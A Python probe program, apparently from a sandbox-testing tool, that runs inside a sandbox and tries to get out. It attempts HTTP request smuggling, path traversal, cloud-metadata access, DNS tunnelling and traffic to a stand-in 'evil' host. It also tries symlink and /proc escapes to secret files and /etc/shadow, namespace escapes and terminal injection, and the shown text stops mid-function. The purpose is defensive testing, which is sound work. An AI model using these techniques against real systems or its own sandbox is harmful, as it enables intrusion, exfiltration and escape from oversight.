"""The program that attacks from within a sandbox, on the sandbox's Python; it comes through standard input.

Rule 1: standard library only, and nothing of cloister: it is a stranger's program.
Rule 2: it does not judge. One JSON line a probe: what was tried, what happened ("got"). The host (verdict.py) judges,
        and looks itself where it can: an attack carries a mark, `attack-<id>-…`, that a witness outside would see.
Rule 3: whatever happens, a probe ends, and so does the program: every wait has a time-out.

`CONFIG` is what the host sent: names, ports, addresses and paths; never a secret.
"""

from __future__ import annotations

import base64
import ctypes
import errno
import functools
import json
import os
import platform
import re
import signal
import socket
import ssl
import stat
import struct
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from typing import Any

CONFIG: dict[str, Any] = globals().get("CONFIG", {})  # Any: JSON, made by run.py
WAIT_S = 3.0
PROBES: dict[str, Callable[[Probe], None]] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
SECRET = re.compile(rb"cvr-[0-9a-f]{32}")
TEXT_LIMIT = 200


class Probe:
    """What one probe has tried."""

    def __init__(self) -> None:
        self.attacks: list[dict[str, object]] = []
        self.controls: list[dict[str, object]] = []
        self.missing = ""

    def attack(self, what: str, attempt: Callable[..., object], *arguments: object) -> None:
        """It must fail: an attempt that returns has succeeded."""
        self.attacks.append(_tried(what, attempt, *arguments))

    def control(self, what: str, attempt: Callable[..., object], *arguments: object) -> None:
        """It must succeed, or the attacks show nothing."""
        self.controls.append(_tried(what, attempt, *arguments))


class RefusedError(Exception):
    """An attempt did not get what it wanted."""


def _tried(what: str, attempt: Callable[..., object], *arguments: object) -> dict[str, object]:
    try:
        got, succeeded = str(attempt(*arguments)), True
    except (OSError, RefusedError, ValueError, EOFError) as error:
        got, succeeded = f"{type(error).__name__}: {error}", False
    return {"what": what, "succeeded": succeeded, "got": got[:TEXT_LIMIT]}


def probe(name: str) -> Callable[[Callable[[Probe], None]], Callable[[Probe], None]]:
    def add(function: Callable[[Probe], None]) -> Callable[[Probe], None]:
        PROBES[name] = function
        return function

    return add


def main() -> None:
    wanted = CONFIG["only"]
    for name, function in PROBES.items():
        if name not in wanted:
            continue
        found = Probe()
        try:
            function(found)
        except Exception as error:
            found.controls.append(
                {"what": "the probe ran", "succeeded": False, "got": f"{type(error).__name__}: {error}"[:400]}
            )
        line = {
            "id": name,
            "attacks": found.attacks,
            "controls": found.controls,
            "missing": found.missing,
        }
        say(line)
    say({"done": True})
    sys.stdin.buffer.read()  # the host looks at this process meanwhile; the end lets it go


def say(line: Mapping[str, object]) -> None:
    sys.stdout.write(json.dumps(line) + "\n")
    sys.stdout.flush()


# Network: what the probes speak.


def name(which: str) -> str:
    return str(CONFIG["names"][which])


def dial(address: str, port: int) -> socket.socket:
    found = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_STREAM)
    found.settimeout(WAIT_S)
    found.connect((address, port))
    return found


def resolve(host: str, family: int = socket.AF_INET) -> str:
    found = socket.getaddrinfo(host, 443, family, socket.SOCK_STREAM)
    return str(found[0][4][0])


@functools.cache
def context(*, verify: bool) -> ssl.SSLContext:
    if verify:
        return ssl.create_default_context()
    found = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    found.check_hostname = False
    found.verify_mode = ssl.CERT_NONE
    return found


def secured(plain: socket.socket, server_name: str | None, *, verify: bool = True) -> ssl.SSLSocket:
    return context(verify=verify).wrap_socket(plain, server_hostname=server_name)


def closing(make: Callable[..., socket.socket], *arguments: object) -> str:
    make(*arguments).close()
    return "connected"


def connected(host: str, *, family: int = socket.AF_INET) -> ssl.SSLSocket:
    return secured(dial(resolve(host, family), 443), host)


def tunnel(target: str) -> socket.socket:
    """Through the explicit proxy. RefusedError if it answers anything but 200."""
    plain = dial("127.0.0.1", 3128)
    plain.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("utf-8", "surrogateescape"))
    status = answer(plain)[0]
    if status != 200:
        raise RefusedError(f"the proxy answered {status}")
    return plain


def get(path: str, host: str, *headers: str) -> bytes:
    lines = [f"GET {path} HTTP/1.1", f"Host: {host}", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def answer(stream: socket.socket) -> tuple[int, bytes]:
    """One response: its status, and head with body."""
    data = b""
    while b"\r\n\r\n" not in data:
        part = stream.recv(65536)
        if not part:
            raise EOFError("closed without an answer")
        data += part
    head, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    while length and len(body) < int(length.group(1)):
        part = stream.recv(65536)
        if not part:
            break
        body += part
    return int(head.split(b" ", 2)[1]), head + b"\r\n\r\n" + body


def asked(stream: socket.socket, request: bytes) -> str:
    """Send a request; RefusedError unless the answer is a success."""
    stream.sendall(request)
    status, whole = answer(stream)
    if not 200 <= status < 300:
        raise RefusedError(f"{status}: {whole.partition(b'reason')[2][:120].decode('latin-1')}")
    return f"{status}"


def once(host: str, request: bytes) -> str:
    with connected(host) as stream:
        return asked(stream, request)


def fetch(host: str, path: str, *headers: str) -> str:
    return once(host, get(path, host, *headers))


# ID: destination confusion, credentials.


@probe("ID-1")
def host_and_destination_disagree(found: Probe) -> None:
    bound, granted, evil = name("bound"), name("open"), name("evil")
    found.control("a request to the connection's own host", lambda: fetch(bound, "/control-ID-1"))
    for other in (granted, evil):
        found.attack(
            f"Host: {other} on a connection to {bound}",
            once,
            bound,
            get("/attack-ID-1-host", other),
        )

    def named_differently() -> str:
        with secured(dial(resolve(bound), 443), granted) as stream:
            return asked(stream, get("/attack-ID-1-sni", granted))

    found.attack(f"server name {granted} at the address of {bound}", named_differently)


@probe("ID-2")
def second_request_elsewhere(found: Probe) -> None:
    bound = name("bound")

    def both() -> str:
        with connected(bound) as stream:
            asked(stream, get("/control-ID-2", bound))
            return asked(stream, get("/attack-ID-2", name("open")))

    found.control("a first request", lambda: fetch(bound, "/control-ID-2"))
    found.attack("a second request on the connection, for another host", both)


@probe("ID-3")
def absolute_form(found: Probe) -> None:
    bound, other = name("bound"), name("open")
    found.control("the origin form", lambda: fetch(bound, "/control-ID-3"))
    for target, host in ((f"https://{other}", other), (f"http://{other}:443", f"{other}:443")):
        found.attack(
            f"absolute form {target} within TLS to {bound}", once, bound, get(f"{target}/attack-ID-3", host)
        )


@probe("ID-4")
def two_hosts(found: Probe) -> None:
    bound = name("bound")
    found.control("one Host", lambda: fetch(bound, "/control-ID-4"))
    found.attack("two Host lines", lambda: once(bound, get("/attack-ID-4", bound, f"Host: {name('open')}")))


@probe("ID-5")
def placeholder_elsewhere(found: Probe) -> None:
    other, placeholder = name("paths"), CONFIG["placeholder"]
    basic = base64.b64encode(f"user:{placeholder}".encode()).decode()
    found.control("a request without it", lambda: fetch(other, "/open/control-ID-5"))
    found.attack(
        "the placeholder in a header",
        lambda: fetch(other, "/open/attack-ID-5-header", f"X-Token: {placeholder}"),
    )
    found.attack(
        "within Basic", lambda: fetch(other, "/open/attack-ID-5-basic", f"Authorization: Basic {basic}")
    )
    found.attack("in the query", lambda: fetch(other, f"/open/attack-ID-5-query?t={placeholder}"))
    found.attack("in the path", lambda: fetch(other, f"/open/attack-ID-5-path/{placeholder}"))


@probe("ID-7")
def own_header(found: Probe) -> None:
    bound = name("bound")
    found.control("a request without it", lambda: fetch(bound, "/control-ID-7"))
    _tried("the client's own", lambda: fetch(bound, "/witness", "aUtHoRiZaTiOn: Bearer attack-ID-7-odd"))
    _tried(
        "and twice",
        lambda: fetch(bound, "/witness", "Authorization: a", "Authorization: Bearer attack-ID-7-twice"),
    )
    found.missing = ""


@probe("ID-8")
def proxy_credentials(found: Probe) -> None:
    host = name("plain")

    def through() -> str:
        with dial("127.0.0.1", 3128) as stream:
            target = f"http://{host}/control-ID-8"
            return asked(stream, get(target, host, "Proxy-Authorization: Basic attack-ID-8"))

    found.control("a request by way of the proxy", through)


@probe("ID-9")
def echo(found: Probe) -> None:
    bound = name("bound")

    def echoed(path: str) -> str:
        with connected(bound) as stream:
            stream.sendall(get(path, bound))
            status, whole = answer(stream)
        secret = SECRET.search(whole)
        if status != 200 or secret is None:
            raise RefusedError(f"{status}, without the value")
        return "the value came back"

    found.control("an answer comes back", lambda: fetch(bound, "/control-ID-9"))
    found.attack("an upstream that echoes the credential in head and body", lambda: echoed("/echo"))
    found.attack("and in base64", lambda: echoed_base64(bound))


def echoed_base64(bound: str) -> str:
    with connected(bound) as stream:
        stream.sendall(get("/echo-base64", bound))
        whole = answer(stream)[1]
    for word in re.findall(rb"[A-Za-z0-9+/=]{40,}", whole):
        if SECRET.search(base64.b64decode(word + b"==")):
            return "the value came back"
    raise RefusedError("without the value")


@probe("ID-11")
def cleartext(found: Probe) -> None:
    host, placeholder = name("plain"), CONFIG["placeholder"]

    def clear(path: str, *headers: str) -> str:
        with dial(resolve(host), 80) as stream:
            return asked(stream, get(path, host, *headers))

    found.control("a request without a credential", lambda: clear("/control-ID-11"))
    found.attack(
        "the placeholder over cleartext",
        lambda: clear("/attack-ID-11", f"Authorization: Bearer {placeholder}"),
    )


# HTTP.


@probe("HTTP-1")
def lengths_disagree(found: Probe) -> None:
    bound = name("bound")
    smuggled = f"GET /attack-HTTP-1 HTTP/1.1\r\nHost: {bound}\r\n\r\n"
    found.control(
        "a body with one length",
        lambda: once(bound, post(bound, "/control-HTTP-1", "Content-Length: 2", "ok")),
    )
    for one, two, body in (
        ("Content-Length: 4", "Transfer-Encoding: chunked", "0\r\n\r\n" + smuggled),
        ("Content-Length: 0", f"Content-Length: {len(smuggled)}", smuggled),
        ("Transfer-Encoding: chunked", "Transfer-Encoding: identity", "0\r\n\r\n" + smuggled),
    ):
        found.attack(
            f"{one} with {two}",
            once,
            bound,
            post(bound, "/attack-HTTP-1-outer", f"{one}\r\n{two}", body),
        )


def post(host: str, path: str, headers: str, body: str) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n\r\n{body}".encode()


@probe("HTTP-2")
def odd_heads(found: Probe) -> None:
    bound = name("bound")
    found.control("a plain head", lambda: fetch(bound, "/control-HTTP-2"))
    for what, line in (
        ("a space before the colon", "X-Odd : attack"),
        ("a folded line", "X-Odd: a\r\n b"),
        ("a bare line feed", "X-Odd: a\nX-Other: b"),
        ("a NUL", "X-Odd: a\0b"),
    ):
        found.attack(what, once, bound, get("/attack-HTTP-2", bound, line))


@probe("HTTP-4")
def path_rules(found: Probe) -> None:
    host = name("paths")
    found.control("the path that is granted", lambda: fetch(host, "/open/control-HTTP-4"))
    for path in (
        "/attack-HTTP-4-plain",
        "/open/../attack-HTTP-4",
        "/open/%2e%2e/attack-HTTP-4",
        "/open/..%2fattack-HTTP-4",
        "/open/%2e%2e%2fattack-HTTP-4",
        "/open/..;/attack-HTTP-4",
        "/open/..\\attack-HTTP-4",
        "//attack-HTTP-4/open/x",
    ):
        found.attack(path, fetch, host, path)


@probe("HTTP-7")
def other_method(found: Probe) -> None:
    host = name("paths")
    found.control("the method that is granted", lambda: fetch(host, "/open/control-HTTP-7"))
    found.attack("DELETE", lambda: once(host, get("/open/attack-HTTP-7", host).replace(b"GET", b"DELETE", 1)))
    for header in ("X-HTTP-Method-Override", "X-Method-Override", "X_HTTP_Method"):
        found.attack(
            f"GET with {header}: DELETE",
            fetch,
            host,
            "/open/attack-HTTP-7-override",
            f"{header}: DELETE",
        )


# TLS and tunnels.


@probe("TLS-1")
def not_tls(found: Probe) -> None:
    host = name("open")

    def other_bytes(data: bytes) -> str:
        with tunnel(f"{host}:443") as stream:
            stream.sendall(data)
            got = stream.recv(200)
        if not got or got.startswith((b"HTTP/1.1 4", b"\x15")):
            raise RefusedError(f"got {got[:60]!r}")
        return repr(got[:60])

    def proper() -> str:
        with secured(tunnel(f"{host}:443"), host) as stream:
            return asked(stream, get("/control-TLS-1", host))

    found.control("TLS within CONNECT", proper)
    found.attack("SSH within CONNECT to 443", lambda: other_bytes(b"SSH-2.0-attack-TLS-1\r\n"))
    found.attack(
        "the first bytes of TLS, then others", lambda: other_bytes(b"\x16\x03\x01attack-TLS-1-record\r\n\r\n")
    )


@probe("TLS-2")
def no_name(found: Probe) -> None:
    host = name("open")

    def without() -> str:
        with secured(dial(resolve(host), 443), None, verify=False) as stream:
            return asked(stream, get("/attack-TLS-2", host))

    found.control("TLS with its name", lambda: fetch(host, "/control-TLS-2"))
    found.attack("TLS without a server name", without)


@probe("TLS-3")
def name_and_address(found: Probe) -> None:
    host, evil = name("open"), name("evil")

    def at(address: str, server: str, mark: str) -> str:
        with secured(dial(address, 443), server, verify=False) as stream:
            return asked(stream, get(f"/attack-TLS-3-{mark}", server))

    found.control("a name at its address", lambda: fetch(host, "/control-TLS-3"))
    found.attack(
        "a name that is not granted, at the address of one that is", lambda: at(resolve(host), evil, "name")
    )
    found.attack(
        "a granted name, at an address of the sandbox's choice", lambda: at("203.0.113.7", host, "address")
    )


# Names and addresses.


@probe("NAME-1")
def odd_names(found: Probe) -> None:
    host = name("open")
    found.control("CONNECT to the granted name", lambda: tunnel(f"{host}:443").close())
    for odd in (
        f"{host}\x01",
        f"{host}%00.{name('evil')}",
        f"a..{host}",
        "",
        "x" * 254,
        f"{name('evil')}\x00.{host}",
    ):
        found.attack(f"CONNECT to {odd[:40]!r}", closing, tunnel, f"{odd}:443")


@probe("NAME-2")
def look_alikes(found: Probe) -> None:
    host = name("open")
    found.control("the granted name is answered", lambda: resolve(host))
    for other in (
        f"x{host}", f"{host}.{name('evil')}", f"sub.{host}", host.replace("open", "0pen"),
        host.partition(".")[2], "xn--pen-5cd." + host.partition(".")[2],
    ):  # fmt: skip
        found.attack(f"DNS: {other}", resolve, other)
        found.attack(f"CONNECT: {other}", closing, tunnel, f"{other}:443")


@probe("NAME-3")
def addresses_as_names(found: Probe) -> None:
    port = CONFIG["tcp_port"]
    found.control("CONNECT to the granted name", lambda: tunnel(f"{name('open')}:443").close())
    for text in (
        "127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0", "[::1]", "[::]",
        "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost",
    ):  # fmt: skip

        def through(text: str = text) -> str:
            with tunnel(f"{text}:{port}") as stream:
                stream.sendall(b"attack-NAME-3")
                return "accepted"

        found.attack(f"CONNECT {text}:{port}", through)


@probe("NAME-4")
def metadata(found: Probe) -> None:
    found.control("CONNECT to the granted name", lambda: tunnel(f"{name('open')}:443").close())
    for text in (
        "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200", "169.254.170.2",
        "192.0.0.192", "metadata.azure.internal",
    ):  # fmt: skip
        found.attack(f"CONNECT {text}:80", closing, tunnel, f"{text}:80")

    def direct() -> str:
        with dial("169.254.169.254", 80) as stream:
            return asked(stream, get("/latest/meta-data/attack-NAME-4", "169.254.169.254"))

    found.attack("HTTP to 169.254.169.254", direct)


# Egress.


@probe("NET-1")
def around_the_policy(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    found.control("a granted name, directly", lambda: fetch(host, "/control-NET-1-direct"))

    def by_proxy() -> str:
        with secured(tunnel(f"{host}:443"), host) as stream:
            return asked(stream, get("/control-NET-1-proxy", host))

    def evil_by_proxy() -> str:
        with secured(tunnel(f"{evil}:443"), evil) as stream:
            return asked(stream, get("/attack-NET-1-proxy", evil))

    def literal() -> str:
        with secured(dial("203.0.113.8", 443), evil, verify=False) as stream:
            return asked(stream, get("/attack-NET-1-literal", evil))

    found.control("and by way of the proxy", by_proxy)
    found.attack("another name, directly", lambda: fetch(evil, "/attack-NET-1-direct"))
    found.attack("another name, by way of the proxy", evil_by_proxy)
    found.attack("another name, at an address", literal)


def _ports(found: Probe, addresses: list[str], mark: str) -> None:
    ports = (22, 25, 8080, 8443, CONFIG["tcp_port"])
    for address in addresses:
        for port in ports:

            def reach(address: str = address, port: int = port) -> str:
                with dial(address, port) as stream:
                    stream.sendall(f"attack-{mark}".encode())
                    return "connected"

            found.attack(f"TCP {address} port {port}", reach)


@probe("NET-2")
def other_ports(found: Probe) -> None:
    found.control("a granted name on 443", lambda: fetch(name("open"), "/control-NET-2"))
    _ports(found, ["203.0.113.9", "1.1.1.1"], "NET-2")


@probe("NET-3")
def datagrams(found: Probe) -> None:
    port = CONFIG["udp_port"]

    def udp(address: str, number: int) -> str:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.3)
            sock.connect((address, number))
            sock.send(b"attack-NET-3")
            sock.send(b"attack-NET-3")  # the refusal of the first shows here
            return repr(sock.recv(100))

    def loopback() -> str:
        with (
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one,
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as two,
        ):
            one.bind(("127.0.0.1", 0))
            one.settimeout(WAIT_S)
            two.sendto(b"x", one.getsockname())
            return repr(one.recv(1))

    found.control("a datagram within the sandbox", loopback)
    for address, number in (
        ("127.0.0.1", port),
        ("203.0.113.9", 443),
        ("1.1.1.1", 4433),
        ("203.0.113.9", 123),
    ):
        found.attack(f"UDP {address} port {number}", udp, address, number)
    for kind, protocol, what in (
        (socket.SOCK_RAW, socket.IPPROTO_ICMP, "a raw ICMP socket"),
        (socket.SOCK_RAW, socket.IPPROTO_UDP, "a raw UDP socket"),
        (socket.SOCK_STREAM, 132, "SCTP"),
    ):
        found.attack(what, closing, socket.socket, socket.AF_INET, kind, protocol)


@probe("NET-4")
def dns(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    found.control("the granted name is answered", lambda: resolve(host))
    found.attack("another name", lambda: resolve(evil))
    found.attack("data in labels of a granted name", lambda: resolve(f"c2VjcmV0.{host}"))
    for server in ("8.8.8.8", "1.1.1.1"):
        found.attack(f"{server} over UDP", question, server, evil)
        found.attack(f"{server} over TCP", question_over_tcp, server, evil)
    found.attack("TXT of a granted name", lambda: question("127.0.0.1", host, kind=16))
    found.attack("DNS over TLS", lambda: dial("1.1.1.1", 853).close())


def question(server: str, host: str, kind: int = 1) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT_S)
        sock.sendto(packet(host, kind), (server, 53))
        return answers(sock.recv(4096))


def question_over_tcp(server: str, host: str) -> str:
    data = packet(host, 1)
    with dial(server, 53) as stream:
        stream.sendall(struct.pack(">H", len(data)) + data)
        return answers(stream.recv(4096)[2:])


def packet(host: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in host.split("."))
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def answers(found: bytes) -> str:
    count = struct.unpack(">H", found[6:8])[0]
    if found[3] & 15 or not count:
        raise RefusedError(f"code {found[3] & 15}, {count} answers")
    return f"{count} answers"


@probe("NET-5")
def version_6(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    if not os.path.exists("/proc/net/if_inet6"):
        found.missing = "the sandbox's network has no IPv6"
        return

    def reached(target: str, path: str) -> str:
        with connected(target, family=socket.AF_INET6) as stream:
            return asked(stream, get(path, target))

    found.control("a granted name over IPv6", lambda: reached(host, "/control-NET-5"))
    found.attack("another name over IPv6", lambda: reached(evil, "/attack-NET-5"))
    _ports(found, ["2001:db8::9", "::1"], "NET-5")


@probe("NET-6")
def change_the_network(found: Probe) -> None:
    def flags() -> str:
        import fcntl

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            fcntl.ioctl(sock, 0x8914, struct.pack("16sH14s", b"lo", 0x1 | 0x40, b""))  # SIOCSIFFLAGS
        return "set"

    def message(kind: int, body: bytes) -> str:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
            sock.settimeout(WAIT_S)
            sock.send(struct.pack("=IHHII", 16 + len(body), kind, 0x5 | 0x600, 1, 0) + body)
            got = sock.recv(4096)
        code = struct.unpack("=i", got[16:20])[0]
        if code:
            raise OSError(-code, os.strerror(-code))
        return "done"

    found.control("the sandbox's interfaces can be listed", socket.if_nameindex)
    found.attack("change the flags of lo", flags)
    route = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 4, 253, 6, 0)
    target = struct.pack("=HH4s", 8, 1, socket.inet_aton("203.0.113.20"))
    found.attack("add a route", lambda: message(24, route + target))
    link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"verify0\0")
    kind = struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 10, 1, b"dummy\0\0\0")
    found.attack("add a link", lambda: message(16, link + kind))


@probe("NET-7")
def the_host(found: Probe) -> None:
    port = CONFIG["tcp_port"]

    def reach(address: str) -> str:
        with dial(address, port) as stream:
            stream.sendall(b"attack-NET-7")
            return "connected"

    found.control("a granted name on 443", lambda: fetch(name("open"), "/control-NET-7"))
    for address in ("127.0.0.1", "::1", *CONFIG["host_addresses"]):
        found.attack(f"the host's port {port} at {address}", reach, address)
    found.attack(
        "the gateway's control socket", unix, f"{CONFIG['runs']}/{os.environ.get('CLOISTER_SANDBOX')}.sock"
    )


def unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect(path)
        sock.sendall(b"attack-K-5")
    return "connected"


# Files.


def write(path: str) -> str:
    with open(path, "w") as file:
        file.write("attack")
    return "written"


def read(path: str) -> str:
    with open(path, "rb") as file:
        data = file.read(1 << 16)
    if CONFIG["file_canary"].encode() not in data:
        raise RefusedError(f"{len(data)} bytes, without the canary")
    return "the canary was read"


@probe("FS-1")
def plant(found: Probe) -> None:
    work = CONFIG["workspace"]
    found.control("an ordinary file of the workspace", lambda: write(f"{work}/ordinary-{os.getpid()}"))
    for path in CONFIG["planted"]:
        found.attack(f"write {path}", plant_at, f"{work}/{path}")
    found.attack("rename .git away", lambda: os.rename(f"{work}/.git", f"{work}/.git-away"))
    found.attack("rename .vscode away", lambda: os.rename(f"{work}/.vscode", f"{work}/.vscode-away"))
    found.attack("remove .git/hooks", lambda: os.rmdir(f"{work}/.git/hooks"))


def plant_at(path: str) -> str:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return write(path)


@probe("CFG-1")
def own_configuration(found: Probe) -> None:
    work = CONFIG["workspace"]
    found.control("an ordinary file of the workspace", lambda: write(f"{work}/ordinary-{os.getpid()}"))
    found.attack("write cloister.toml", lambda: write(f"{work}/cloister.toml"))

    def replaced() -> None:
        write(f"{work}/other.toml")
        os.rename(f"{work}/other.toml", f"{work}/cloister.toml")

    found.attack("move another file there", replaced)
    found.attack("remove it", lambda: os.rmdir(f"{work}/cloister.toml"))


@probe("FS-2")
def links(found: Probe) -> None:
    work, secret = CONFIG["workspace"], CONFIG["canary_file"]
    inner = f"{work}/inner-{os.getpid()}"
    write_text(inner, CONFIG["file_canary"])
    link = f"{work}/link-{os.getpid()}"
    os.symlink(inner, link)
    found.control("a link within the workspace", lambda: read(link))
    os.unlink(link)

    def follow(target: str) -> str:
        os.symlink(target, link)
        try:
            return read(link)
        finally:
            os.unlink(link)

    found.attack("a symbolic link out of the workspace", lambda: follow(secret))
    found.attack("through ..", lambda: read(f"{work}/../{os.path.basename(secret)}"))
    found.attack("through /proc/self/root", lambda: read(f"/proc/self/root{secret}"))
    found.attack("through /proc/1/root", lambda: read(f"/proc/1/root{secret}"))
    found.attack("a hard link", lambda: os.link(secret, f"{work}/hard-{os.getpid()}"))
    found.attack("through /proc/1/cwd", lambda: read(f"/proc/1/cwd/{secret}"))


def write_text(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


@probe("FS-3")
def home(found: Probe) -> None:
    own = f"{CONFIG['workspace']}/own-{os.getpid()}"
    write_text(own, CONFIG["file_canary"])
    found.control("a file of the workspace", lambda: read(own))
    os.unlink(own)
    for path in (CONFIG["canary_file"], *CONFIG["private_files"]):
        found.attack(f"read {path}", read, path)

    def walked() -> str:
        for top in (os.path.expanduser("~"), "/root", "/home", "/mnt", "/media", "/srv", "/var/tmp", "/tmp"):
            for directory, names, files in os.walk(top):
                if directory.count("/") > 6:
                    names.clear()
                for one in files:
                    path = f"{directory}/{one}"
                    if one.startswith(("canary", ".canary")):
                        return read(path)
        raise RefusedError("no canary in sight")

    found.attack("look for it everywhere", walked)
    found.attack("read /etc/shadow", lambda: open("/etc/shadow", "rb").close())


@probe("FS-4")
def special_files(found: Probe) -> None:
    path = f"{CONFIG['workspace']}/special-{os.getpid()}"
    write(path)
    found.control("an ordinary mode", lambda: os.chmod(path, 0o750))
    found.attack("set-user-id", lambda: os.chmod(path, 0o4750))
    found.attack("set-group-id", lambda: os.chmod(path, 0o2750))
    found.attack("create a set-user-id file", suid, f"{path}-new")
    found.attack("a device", os.mknod, f"{path}-device", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    for one in (path, f"{path}-new", f"{path}-device"):
        if os.path.lexists(one):
            os.unlink(one)


def suid(path: str) -> str:
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))
    if not os.stat(path).st_mode & stat.S_ISUID:
        raise RefusedError("without the bit")
    return "made"


@probe("FS-6")
def masked(found: Probe) -> None:
    work = CONFIG["workspace"]
    found.control("a file that is no secret", lambda: read(f"{work}/readme.txt"))
    for path in CONFIG["masked"]:
        found.attack(f"read {path}", read, f"{work}/{path}")


# Kernel and processes.


def status() -> dict[str, str]:
    with open("/proc/self/status") as file:
        return dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)


@probe("K-1")
def privileges(found: Probe) -> None:
    fields = status()
    found.control("/proc/self/status can be read", lambda: fields["Seccomp"])
    for field in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        found.attack(f"{field} is not zero", nonzero, fields[field])
    found.attack("no_new_privs is not set", lambda: differs(fields["NoNewPrivs"], "1"))
    found.attack("no filter of system calls", lambda: differs(fields["Seccomp"], "2"))
    found.attack("become uid 0", lambda: os.setresuid(0, 0, 0))


def nonzero(text: str) -> str:
    if not text.strip("0"):
        raise RefusedError("0")
    return text


def differs(text: str, expected: str) -> str:
    if text == expected:
        raise RefusedError(text)
    return text


def call(number: int, *arguments: object) -> str:
    """A system call by its number. RefusedError if it is refused as such: EPERM or ENOSYS."""
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *arguments)
    code = ctypes.get_errno()
    if result == -1 and code in (errno.EPERM, errno.ENOSYS):
        raise RefusedError(errno.errorcode[code])
    return f"{result}, {errno.errorcode.get(code, 0)}"


def in_child(attempt: Callable[[], object]) -> str:
    """For what would change this process: its end tells whether it was allowed."""
    pid = os.fork()
    if pid == 0:
        try:
            attempt()
            os._exit(0)
        except BaseException:
            os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
        raise RefusedError("refused")
    return "allowed"


def unshare(flags: int) -> None:
    if LIBC.unshare(flags):
        raise OSError(ctypes.get_errno(), "unshare")


@probe("K-2")
def namespaces(found: Probe) -> None:
    found.control("a child process", lambda: in_child(lambda: None))
    kinds = {"user": 0x10000000, "mount": 0x20000, "network": 0x40000000, "pid": 0x20000000, "uts": 0x4000000}
    for what, flag in kinds.items():
        found.attack(f"a new {what} namespace", in_child, functools.partial(unshare, flag))
    found.attack("mount", mounted)
    found.attack("chroot", lambda: in_child(lambda: os.chroot("/")))
    found.attack("set the host name", lambda: in_child(lambda: socket.sethostname("breached")))

    def joined() -> str:
        with open("/proc/1/ns/net") as file:
            if LIBC.setns(file.fileno(), 0):
                raise OSError(ctypes.get_errno(), "setns")
        return "joined"

    found.attack("setns", joined)


def mounted() -> str:
    if LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    return "mounted"


@probe("K-3")
def processes_outside(found: Probe) -> None:
    mine = os.getpid()
    found.control("this process sees itself", lambda: os.stat(f"/proc/{mine}/cmdline"))
    mark = CONFIG["process_mark"].encode()

    def seen() -> str:
        for pid in pids():
            for file in ("comm", "cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{file}", "rb") as stream:
                        if mark in stream.read():
                            return f"process {pid}"
                except OSError:
                    continue
        raise RefusedError("the host's process is not in sight")

    found.attack("see a process of the host", seen)
    found.attack("core dumps", core)


def core() -> str:
    import resource

    limit = resource.getrlimit(resource.RLIMIT_CORE)
    if limit == (0, 0):
        raise RefusedError("limit 0")
    return str(limit)


def pids() -> list[str]:
    return [one for one in os.listdir("/proc") if one.isdigit()]


@probe("K-4")
def rare_calls(found: Probe) -> None:
    table = {
        "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282), "add_key": (248, 217),
        "request_key": (249, 218), "keyctl": (250, 219), "kexec_load": (246, 104), "init_module": (175, 105),
        "io_uring_setup": (425, 425), "open_by_handle_at": (304, 265), "fsopen": (430, 430),
        "open_tree": (428, 428), "mount_setattr": (442, 442), "clone3": (435, 435),
    }  # fmt: skip
    found.control("getpid by its number", lambda: call(172 if ARM else 39))
    for what, numbers in table.items():
        number = numbers[1] if ARM else numbers[0]
        found.attack(what, call, number, 0, 0, 0, 0, 0, 0)
    for family in ("AF_ALG", "AF_VSOCK", "AF_PACKET"):
        kind = socket.SOCK_SEQPACKET if family == "AF_ALG" else socket.SOCK_STREAM
        kind = socket.SOCK_RAW if family == "AF_PACKET" else kind
        found.attack(family, closing, socket.socket, getattr(socket, family), kind)
    found.attack("type into the terminal (TIOCSTI)", terminal_input)


def terminal_input() -> str:
    master, slave = os.openpty()
    ctypes.set_errno(0)
    LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
    result = LIBC.ioctl(slave, 0x5412, b"x")
    code = ctypes.get_errno()
